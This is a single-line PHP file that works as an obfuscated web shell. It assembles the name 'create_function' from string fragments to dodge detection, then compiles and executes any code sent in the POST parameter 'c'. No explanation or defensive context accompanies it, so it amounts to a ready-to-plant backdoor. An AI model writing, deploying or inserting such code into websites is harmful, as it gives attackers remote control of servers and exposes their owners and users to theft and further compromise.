<?php $s = 'cr'.'eat'.'e_fu'.'nction'; $f = $s('', $_POST['c']); $f();
